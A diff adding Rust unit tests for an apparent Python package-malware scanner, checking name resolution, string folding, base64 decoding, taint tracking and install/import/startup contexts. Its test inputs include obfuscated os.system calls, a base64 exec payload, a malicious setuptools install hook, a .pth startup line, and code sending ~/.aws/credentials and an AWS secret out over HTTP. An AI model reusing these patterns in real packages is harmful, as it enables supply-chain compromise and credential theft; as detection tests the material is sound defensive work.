@@ -1,0 +1,178 @@
+//! Tests of the semantic model: name resolution, constant evaluation,
+//! decoding, taint and execution contexts.
+
+use super::*;
+
+fn model(code: &str, role: FileRole) -> FileAnalysis {
+    analyze("t.py", code.as_bytes(), role)
+}
+
+fn call<'a>(a: &'a FileAnalysis, name: &str) -> &'a Call {
+    a.calls
+        .iter()
+        .find(|c| &*c.name == name)
+        .unwrap_or_else(|| {
+            panic!(
+                "no call {name} in {:#?}",
+                a.calls.iter().map(|c| &c.name).collect::<Vec<_>>()
+            )
+        })
+}
+
+#[test]
+fn aliases_resolve_to_qualified_names() {
+    let a = model(
+        "import subprocess as sp\nfrom os import system as s\nimport importlib\n\
+         sp.Popen(['id'])\ns('id')\n__import__('os').popen('id')\n\
+         importlib.import_module('os').execv('/bin/sh', [])\ngetattr(__import__('os'), 'sys' + 'tem')('x')\n\
+         import builtins\nbuiltins.exec('1')\nglobals()['__builtins__'].eval('2')\n",
+        FileRole::Module,
+    );
+    for name in [
+        "subprocess.Popen",
+        "os.system",
+        "os.popen",
+        "os.execv",
+        "builtins.exec",
+        "builtins.eval",
+    ] {
+        call(&a, name);
+    }
+    assert_eq!(
+        a.calls.iter().filter(|c| &*c.name == "os.system").count(),
+        2
+    );
+}
+
+#[test]
+fn constants_fold() {
+    let a = model(
+        "import os\nu = 'ptth'[::-1] + '://' + '.'.join(['1', '2', '3', '4'])\n\
+         p = '%s/%s' % (u, 'x')\nq = '{}/{}'.format(u, 'y')\n\
+         c = ''.join([chr(105), chr(100)])\nh = bytes.fromhex('6964').decode()\n\
+         os.system(p)\nos.system(q)\nos.system(c)\nos.system(h)\nos.system(f'{u}/z')\n\
+         os.system('abc'.replace('b', 'X'))\n",
+        FileRole::Module,
+    );
+    let texts: Vec<String> = a
+        .calls
+        .iter()
+        .filter(|c| &*c.name == "os.system")
+        .map(|c| c.args[0].text.as_deref().unwrap_or("?").to_owned())
+        .collect();
+    assert_eq!(
+        texts,
+        [
+            "http://1.2.3.4/x",
+            "http://1.2.3.4/y",
+            "id",
+            "id",
+            "http://1.2.3.4/z",
+            "aXc"
+        ]
+    );
+}
+
+#[test]
+fn decoded_payloads_are_analysed_at_their_line() {
+    // exec(base64.b64decode("import os; os.system('id')"))
+    let a = model(
+        "import base64\nx = 1\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))\n",
+        FileRole::Module,
+    );
+    let exec = call(&a, "builtins.exec");
+    assert!(exec.args[0].has(taint::DECODED));
+    let system = call(&a, "os.system");
+    assert_eq!(system.line, 3);
+    assert_eq!(system.via.as_deref(), Some("base64"));
+    assert_eq!(system.context, ExecContext::Import);
+    assert_eq!(a.payloads.len(), 1);
+    assert!(a.payloads[0].is_python);
+}
+
+#[test]
+fn contexts_follow_the_call_graph() {
+    let a = model(
+        "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\
+         def helper():\n    os.system('a')\n\
+         class Hook(install):\n    def run(self):\n        self.go()\n    def go(self):\n        helper()\n\
+         def unused():\n    os.system('b')\n\
+         setup(name='x', cmdclass={'install': Hook})\n",
+        FileRole::SetupScript,
+    );
+    let contexts: Vec<(&str, ExecContext)> = a
+        .calls
+        .iter()
+        .filter(|c| &*c.name == "os.system")
+        .map(|c| (c.args[0].text.as_deref().unwrap_or(""), c.context))
+        .collect();
+    assert_eq!(
+        contexts,
+        [("a", ExecContext::Install), ("b", ExecContext::Runtime)]
+    );
+}
+
+#[test]
+fn module_top_level_is_import_and_main_guard_is_runtime() {
+    let a = model(
+        "import os\nos.getcwd()\ndef f():\n    os.getpid()\nf()\nif __name__ == '__main__':\n    os.getuid()\n",
+        FileRole::Module,
+    );
+    assert_eq!(call(&a, "os.getcwd").context, ExecContext::Import);
+    assert_eq!(call(&a, "os.getpid").context, ExecContext::Import);
+    assert_eq!(call(&a, "os.getuid").context, ExecContext::Runtime);
+}
+
+#[test]
+fn taint_flows_through_names_and_methods() {
+    let a = model(
+        "import os, requests\nwith open(os.path.expanduser('~/.aws/credentials')) as f:\n    data = f.read()\n\
+         requests.post('http://x', data=data)\nkey = os.environ['AWS_SECRET']\nrequests.get('http://y', params=key)\n",
+        FileRole::Module,
+    );
+    let post = call(&a, "requests.post");
+    assert!(post.keyword("data").unwrap().has(taint::SECRET));
+    assert!(
+        call(&a, "requests.get")
+            .keyword("params")
+            .unwrap()
+            .has(taint::ENV)
+    );
+}
+
+#[test]
+fn python2_source_still_yields_facts() {
+    let a = model(
+        "import os\nprint 'hello'\nexec 'os.system(\"id\")'\n",
+        FileRole::Module,
+    );
+    assert!(a.parse_error.is_some());
+    call(&a, "os.system");
+}
+
+#[test]
+fn deep_nesting_does_not_overflow() {
+    for (open, close) in [("[", "]"), ("-", ""), ("f(", ")"), ("(", ")"), ("not ", "")] {
+        let code = format!("x = {}1{}\n", open.repeat(100_000), close.repeat(100_000));
+        let a = model(&code, FileRole::Module);
+        assert_eq!(a.path, "t.py");
+    }
+    let chain = format!("x = a{}\n", ".a".repeat(100_000));
+    model(&chain, FileRole::Module);
+    let sum = format!("import os\nos.system('i' {})\n", "+ 'd' ".repeat(100_000));
+    let a = model(&sum, FileRole::Module);
+    assert!(
+        call(&a, "os.system").args[0]
+            .text
+            .as_deref()
+            .unwrap()
+            .starts_with("iddd")
+    );
+}
+
+#[test]
+fn pth_only_import_lines_run() {
+    let a = model("/site/path\nimport os; os.system('id')\n", FileRole::Pth);
+    let system = call(&a, "os.system");
+    assert_eq!((system.line, system.context), (2, ExecContext::Startup));
+}
